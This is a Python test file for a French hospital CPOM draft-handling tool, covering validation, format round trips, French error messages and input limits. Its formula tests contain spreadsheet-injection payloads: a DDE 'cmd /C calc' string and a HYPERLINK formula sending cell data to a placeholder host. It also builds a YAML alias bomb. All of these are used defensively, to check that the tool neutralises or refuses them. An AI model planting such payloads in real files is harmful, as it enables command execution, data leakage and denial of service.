from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path

import openpyxl
import pytest

from assistant.drafts import (
    MAX_FOLDER_FILES,
    MAX_ROWS,
    MAX_YAML_ALIASES,
    Draft,
    draft_to_json,
    parse_draft,
    read_draft_file,
    read_drafts,
    write_csv,
    write_json,
    write_xlsx,
)
from assistant.drafts.formulas import neutralise_formula, restore_formula, starts_like_formula
from assistant.drafts.table import COLUMNS
from assistant.errors import InvalidInputError
from tests.validator_fixtures import HPR_SIX, draft, hpr_line, proximity_draft

# --- schema ------------------------------------------------------------------------------


def test_valid_tree_parses_without_issues() -> None:
    view = parse_draft(draft())
    assert view.issues == []
    assert view.etablissement.finess_ej == "310000123"
    assert view.etablissement.departement == "31"
    assert [item.code for item in view.indicateurs][:2] == ["CPOM_CT_2", "CPOM_CT_4"]


@pytest.mark.parametrize(
    ("change", "path", "words"),
    [
        pytest.param(
            {"finess_ej": "31000012"}, "etablissement.finess_ej", "9 chiffres", id="finess-8"
        ),
        pytest.param(
            {"finess_ej": "31000012A"}, "etablissement.finess_ej", "9 chiffres", id="finess-letter"
        ),
        pytest.param({"statut": "associatif"}, "etablissement.statut", "non reconnue", id="statut"),
        pytest.param(
            {"categorie": "EHPAD"}, "etablissement.categorie", "non reconnue", id="categorie"
        ),
        pytest.param({"lits": "beaucoup"}, "etablissement.lits", "entier", id="lits-text"),
        pytest.param({"lits": -3}, "etablissement.lits", "positif", id="lits-negative"),
        pytest.param(
            {"membre_ght": "peut-être"}, "etablissement.membre_ght", "oui ou non", id="bool"
        ),
        pytest.param(
            {"activites": "medecine"}, "etablissement.activites", "liste", id="activites-str"
        ),
        pytest.param(
            {"activites": ["medecine", "cardio"]},
            "etablissement.activites[1]",
            "non reconnue",
            id="activite-unknown",
        ),
        pytest.param({"lits": None}, "etablissement.lits", "manquant", id="lits-missing"),
    ],
)
def test_establishment_errors_are_issues_with_the_field_path(
    change: dict[str, object], path: str, words: str
) -> None:
    view = parse_draft(draft(**change))
    assert [(i.path, words in i.message) for i in view.issues] == [(path, True)]
    assert len(view.indicateurs) == 8  # the indicators are still there to be checked


def test_structural_errors_are_issues_not_exceptions() -> None:
    tree = draft()
    tree["indicateurs"] = "CPOM_OS_13"
    del tree["campagne"]
    tree["date"] = "le 3 juillet"
    tree["indicateurs_hpr"] = [{"code": "HPR_1_1", "cibles": ["2025", 3]}, 42]
    paths = {issue.path for issue in parse_draft(tree).issues}
    assert paths == {
        "indicateurs",
        "campagne",
        "date",
        "indicateurs_hpr[0].cibles",
        "indicateurs_hpr[1]",
    }


@pytest.mark.parametrize("data", [[], "texte", 3, None], ids=["list", "str", "int", "null"])
def test_a_document_that_is_not_an_object_is_one_issue(data: object) -> None:
    view = parse_draft(data)
    assert [issue.path for issue in view.issues] == ["(racine)"]


def test_values_are_kept_as_written_and_bad_lines_keep_their_code() -> None:
    tree = draft()
    tree["indicateurs"][0]["valeur_initiale"] = "environ douze"
    tree["indicateurs"][1]["cibles"] = {"2025": {"x": 1}, "2026": 12.5, 2027: "oui", "2031": 3}
    view = parse_draft(tree)
    first, second = view.indicateurs[:2]
    assert first.valeur_initiale == "environ douze"
    assert second.cibles == {"2026": 12.5, "2027": "oui"}
    assert {(i.path, i.indicator) for i in view.issues} == {
        ("indicateurs[1].cibles.2025", "CPOM_CT_4"),
        ("indicateurs[1].cibles.2031", "CPOM_CT_4"),
    }


def test_french_dates_and_booleans_are_read() -> None:
    view = parse_draft(draft(membre_ght="non", hopital_proximite="OUI") | {"date": "24/07/2025"})
    assert view.issues == []
    assert (view.etablissement.membre_ght, view.etablissement.hopital_proximite) == (False, True)
    assert view.date is not None
    assert view.date.isoformat() == "2025-07-24"


# --- round trips -------------------------------------------------------------------------


def _tricky() -> Draft:
    tree = proximity_draft()
    tree["indicateurs"][0] |= {"valeur_initiale": 12.5, "commentaire": "=1+1 « é » ’ €"}
    tree["indicateurs"][1]["cibles"] = {"2025": "oui", "2026": True, "2027": "à voir", "2029": 0}
    tree["indicateurs"][2]["justification"] = "Ligne 1\nLigne 2 ; « guillemets »"
    tree["indicateurs_hpr"][0]["valeur_initiale"] = "non"
    tree["etablissement"]["finess_ej"] = "090000017"  # Ariège: a leading zero
    return Draft.model_validate(tree)


def test_json_to_xlsx_to_json_keeps_the_draft_unchanged(tmp_path: Path) -> None:
    original = _tricky()
    write_json(original, tmp_path / "brouillon.json")
    from_json = Draft.model_validate(read_draft_file(tmp_path / "brouillon.json")[0].data)
    write_xlsx(from_json, tmp_path / "brouillon.xlsx")
    sources = read_draft_file(tmp_path / "brouillon.xlsx")
    assert len(sources) == 1
    assert sources[0].issues == []
    back = Draft.model_validate(sources[0].data)
    assert back == original
    assert draft_to_json(back) == (tmp_path / "brouillon.json").read_text(encoding="utf-8")


def test_xlsx_text_cells_never_become_formulas(tmp_path: Path) -> None:
    write_xlsx(_tricky(), tmp_path / "b.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx")["indicateurs"]
    comment = sheet.cell(row=2, column=COLUMNS.index("commentaire") + 1)
    assert comment.data_type == "s"
    assert comment.value == "=1+1 « é » ’ €"


def test_an_establishment_without_indicators_round_trips(tmp_path: Path) -> None:
    original = Draft.model_validate(draft(codes=(), activites=[]))
    write_xlsx([original], tmp_path / "vide.xlsx")
    back = Draft.model_validate(read_draft_file(tmp_path / "vide.xlsx")[0].data)
    assert back == original


def test_csv_round_trip_keeps_figures(tmp_path: Path) -> None:
    original = Draft.model_validate(proximity_draft())
    write_csv(original, tmp_path / "b.csv")
    raw = (tmp_path / "b.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    back = Draft.model_validate(read_draft_file(tmp_path / "b.csv")[0].data)
    assert back == original


def _formula_draft() -> Draft:
    tree = proximity_draft()
    tree["indicateurs"][0] |= {
        "valeur_initiale": -5,
        "justification": '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquer")',
        "commentaire": "-2+3+cmd|' /C calc'!A0",
    }
    tree["indicateurs"][1] |= {"valeur_initiale": -12.5, "justification": "@SUM(A1:A9)"}
    tree["indicateurs"][2] |= {"valeur_initiale": "-3", "justification": "'=déjà marqué"}
    return Draft.model_validate(tree)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=";"))


def test_csv_neutralises_formula_like_text_and_keeps_negative_numbers(tmp_path: Path) -> None:
    original = _formula_draft()
    write_csv(original, tmp_path / "b.csv")
    first, second, third = _csv_rows(tmp_path / "b.csv")[:3]
    assert first["justification"] == '\'=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquer")'
    assert first["commentaire"] == "'-2+3+cmd|' /C calc'!A0"
    assert second["justification"] == "'@SUM(A1:A9)"
    assert third["justification"] == "''=déjà marqué"
    # Negative figures are numbers for the spreadsheet and for the reader, not text.
    assert (first["valeur_initiale"], second["valeur_initiale"]) == ("-5", "-12.5")
    assert third["valeur_initiale"] == "-3"
    # Read back, the apostrophes are gone and the figures are numbers (even "-3", written as text).
    back = Draft.model_validate(read_draft_file(tmp_path / "b.csv")[0].data)
    for field in ("justification", "commentaire"):
        assert [getattr(i, field) for i in back.indicateurs] == [
            getattr(i, field) for i in original.indicateurs
        ]
    assert [item.valeur_initiale for item in back.indicateurs[:3]] == [-5, -12.5, -3]


def test_xlsx_formula_like_text_is_a_quoted_string_cell(tmp_path: Path) -> None:
    original = _formula_draft()
    write_xlsx(original, tmp_path / "b.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "b.xlsx")["indicateurs"]
    justification = COLUMNS.index("justification") + 1
    value = COLUMNS.index("valeur_initiale") + 1
    for row in (2, 3):
        cell = sheet.cell(row=row, column=justification)
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
        assert str(cell.value).startswith(("=HYPERLINK", "@SUM"))
    assert [sheet.cell(row=row, column=value).value for row in (2, 3)] == [-5, -12.5]
    assert Draft.model_validate(read_draft_file(tmp_path / "b.xlsx")[0].data) == original


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        pytest.param("=1+1", True, id="equals"),
        pytest.param("+33 6 12", True, id="plus-text"),
        pytest.param("-2+3+cmd|' /C calc'!A0", True, id="dde"),
        pytest.param("@SUM(A1)", True, id="at"),
        pytest.param("\t=1+1", True, id="tab"),
        pytest.param("-5", False, id="negative-int"),
        pytest.param("-1 200,5", False, id="negative-french"),
        pytest.param("+3.2", False, id="signed-float"),
        pytest.param("Taux 1+1", False, id="plain-text"),
    ],
)
def test_formula_like_text_is_recognised(text: str, formula: bool) -> None:
    assert starts_like_formula(text) is formula
    neutral = neutralise_formula(text)
    assert (neutral != text) is formula
    assert restore_formula(str(neutral)) == text


# --- CSV and XLSX reading ----------------------------------------------------------------

HEADER = (
    "annexe,campagne,finess_ej,raison_sociale,statut,categorie,lits,membre_ght,"
    "hopital_proximite,activites,code,valeur_initiale,cible_2025,cible_2026,cible_2027,"
    "cible_2028,cible_2029,justification"
)


def _csv_row(finess: str, name: str, code: str, baseline: str = "4") -> str:
    return (
        f"strategique,occitanie-2025-2029,{finess},{name},public,CH,120,oui,non,"
        f'"medecine, chirurgie",{code},{baseline},5,6,7,8,9,texte'
    )


def test_cp1252_csv_with_comma_and_french_decimals(tmp_path: Path) -> None:
    rows = [HEADER, _csv_row("310000123", "CH de Montréal’s", "OS_13", '"12,5"')]
    (tmp_path / "b.csv").write_bytes("\r\n".join(rows).encode("cp1252"))
    sources = read_draft_file(tmp_path / "b.csv")
    view = parse_draft(sources[0].data)
    assert view.issues == []
    assert view.etablissement.raison_sociale == "CH de Montréal’s"
    assert view.etablissement.activites == ["medecine", "chirurgie"]
    assert view.indicateurs[0].valeur_initiale == 12.5
    assert view.indicateurs[0].cibles["2029"] == 9


def test_semicolon_csv_with_bom_and_several_establishments_is_a_batch(tmp_path: Path) -> None:
    rows = [
        HEADER,
        _csv_row("310000123", "CH A", "OS_13"),
        _csv_row("340000456", "CH B", "OS_9"),
        _csv_row("310000123", "CH A", "CT_2"),
    ]
    text = "\n".join(
        row.replace(",", ";").replace('"medecine; chirurgie"', "medecine|chirurgie") for row in rows
    )
    (tmp_path / "lot.csv").write_bytes(text.encode("utf-8-sig"))
    sources = read_drafts(tmp_path / "lot.csv")
    assert [s.data["etablissement"]["finess_ej"] for s in sources] == ["310000123", "340000456"]
    assert [i["code"] for i in sources[0].data["indicateurs"]] == ["OS_13", "CT_2"]
    assert sources[0].locate("indicateurs[1].valeur_initiale") == "ligne 4"


def test_rows_of_one_establishment_that_disagree_are_reported(tmp_path: Path) -> None:
    rows = [HEADER, _csv_row("310000123", "CH A", "OS_13"), _csv_row("310000123", "CH Z", "OS_9")]
    (tmp_path / "b.csv").write_text("\n".join(rows), encoding="utf-8")
    (source,) = read_drafts(tmp_path / "b.csv")
    assert [i.path for i in source.issues] == ["etablissement.raison_sociale"]
    assert "ligne 2" in source.issues[0].message
    assert "ligne 3" in source.issues[0].message


def test_xlsx_with_typed_cells_and_leading_blank_rows(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append([])
    sheet.append(HEADER.split(","))
    sheet.append(
        [
            "hpr",
            "occitanie-2025-2029",
            310000123,
            "CH A",
            "public",
            "CH",
            60,
            True,
            True,
            "medecine",
            "HPR_1_1",
            3,
            4,
            5,
            6,
            None,
            None,
            "texte",
        ]
    )
    workbook.save(tmp_path / "b.xlsx")
    (source,) = read_drafts(tmp_path / "b.xlsx")
    view = parse_draft(source.data)
    assert view.issues == []
    assert view.indicateurs_hpr[0].cibles == {"2025": 4, "2026": 5, "2027": 6}
    assert source.locate("indicateurs_hpr[0]") == "ligne 3"


def test_unknown_annexe_value_is_reported(tmp_path: Path) -> None:
    rows = [HEADER, _csv_row("310000123", "CH A", "OS_13").replace("strategique", "annexe 9", 1)]
    (tmp_path / "b.csv").write_text("\n".join(rows), encoding="utf-8")
    (source,) = read_drafts(tmp_path / "b.csv")
    assert [i.path for i in source.issues] == ["annexe"]


# --- unreadable input: French InvalidInputError, never a traceback ----------------------


def _expect_invalid(path: Path, *words: str) -> InvalidInputError:
    with pytest.raises(InvalidInputError) as info:
        read_drafts(path)
    message = info.value.message
    assert all(word in message for word in words), message
    assert info.value.exit_code == 2
    return info.value


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        pytest.param("vide.json", b"", ("vide.json", "vide"), id="empty"),
        pytest.param(
            "image.json", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", ("binaire",), id="binary-json"
        ),
        pytest.param(
            "latin.json", '{"campagne": "é"}'.encode("latin-1"), ("UTF-8",), id="encoding"
        ),
        pytest.param(
            "casse.json", b'{"campagne": "x",', ("JSON mal formé", "ligne 1"), id="malformed-json"
        ),
        pytest.param("nan.json", b'{"lits": NaN}', ("NaN",), id="nan"),
        pytest.param("casse.yaml", b"campagne: [x\n", ("YAML mal formé",), id="malformed-yaml"),
        pytest.param(
            "faux.xlsx", b"annexe;code\nstrategique;OS_13\n", ("Excel",), id="csv-renamed-xlsx"
        ),
        pytest.param("zip.xlsx", b"PK\x03\x04garbage", ("Excel",), id="corrupt-xlsx"),
        pytest.param("bin.csv", b"code\x00\x01\x02", ("binaire",), id="binary-csv"),
        pytest.param(
            "sans_code.csv",
            b"annexe;finess_ej\nstrategique;310000123\n",
            ("code",),
            id="no-code-column",
        ),
        pytest.param("entete.csv", b"code;valeur_initiale\n", ("aucune ligne",), id="header-only"),
        pytest.param("brouillon.txt", b"hello", ("non pris en charge",), id="extension"),
    ],
)
def test_unreadable_files_raise_french_errors(
    tmp_path: Path, name: str, content: bytes, words: tuple[str, ...]
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    _expect_invalid(path, *words)


def test_missing_file(tmp_path: Path) -> None:
    _expect_invalid(tmp_path / "absent.json", "introuvable")


def test_yaml_alias_bomb_is_refused(tmp_path: Path) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    (tmp_path / "bombe.yaml").write_text("\n".join(lines), encoding="utf-8")
    _expect_invalid(tmp_path / "bombe.yaml", "alias", str(MAX_YAML_ALIASES))


def test_yaml_reads_as_the_json_tree(tmp_path: Path) -> None:
    text = """
campagne: occitanie-2025-2029
date: 2025-07-01
etablissement: {raison_sociale: CH A, finess_ej: "310000123", statut: public, categorie: CH,
  lits: 120, membre_ght: oui, hopital_proximite: non, activites: [medecine]}
indicateurs:
  - code: OS_13
    valeur_initiale: 12,5
    cibles: {2025: 13, 2026: 14}
"""
    (tmp_path / "b.yml").write_text(text, encoding="utf-8")
    view = parse_draft(read_drafts(tmp_path / "b.yml")[0].data)
    assert view.issues == []
    assert view.indicateurs[0].cibles == {"2025": 13, "2026": 14}
    assert view.indicateurs[0].valeur_initiale == "12,5"


def test_size_caps(tmp_path: Path) -> None:
    big = tmp_path / "gros.json"
    with big.open("wb") as handle:
        handle.truncate(11 * 1024 * 1024)
    _expect_invalid(big, "gros.json", "Mo")
    rows = "code\n" + "OS_13\n" * (MAX_ROWS + 1)
    (tmp_path / "long.csv").write_text(rows, encoding="utf-8")
    _expect_invalid(tmp_path / "long.csv", str(MAX_ROWS))
    folder = tmp_path / "dossier"
    folder.mkdir()
    for n in range(MAX_FOLDER_FILES + 1):
        (folder / f"{n:03}.json").write_text("{}", encoding="utf-8")
    _expect_invalid(folder, str(MAX_FOLDER_FILES))


def test_empty_folder(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("rien", encoding="utf-8")
    _expect_invalid(tmp_path, "aucun brouillon")


def test_folder_reads_every_file_and_keeps_unreadable_ones_as_errors(tmp_path: Path) -> None:
    write_json(Draft.model_validate(draft()), tmp_path / "a.json")
    write_xlsx(
        [
            Draft.model_validate(draft(finess_ej="340000001")),
            Draft.model_validate(draft(finess_ej="340000002")),
        ],
        tmp_path / "b.xlsx",
    )
    (tmp_path / "c.json").write_bytes(b"")
    (tmp_path / "~$b.xlsx").write_bytes(b"lock")
    sources = read_drafts(tmp_path)
    assert [(s.file, s.error is None) for s in sources] == [
        ("a.json", True),
        ("b.xlsx", True),
        ("b.xlsx", True),
        ("c.json", False),
    ]
    assert "vide" in (sources[3].error or "")


def test_reading_never_modifies_the_input(tmp_path: Path) -> None:
    tree = proximity_draft()
    tree["indicateurs_hpr"].append(hpr_line(HPR_SIX[0]))
    paths = []
    for name, writer in (("a.json", write_json), ("a.xlsx", write_xlsx), ("a.csv", write_csv)):
        writer(Draft.model_validate(tree), tmp_path / name)
        paths.append(tmp_path / name)
    (tmp_path / "a.yaml").write_text(json.dumps(tree), encoding="utf-8")
    paths.append(tmp_path / "a.yaml")
    before = {p: (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns) for p in paths}
    read_drafts(tmp_path)
    after = {p: (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns) for p in paths}
    assert before == after
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "a.json", "a.xlsx", "a.yaml"]
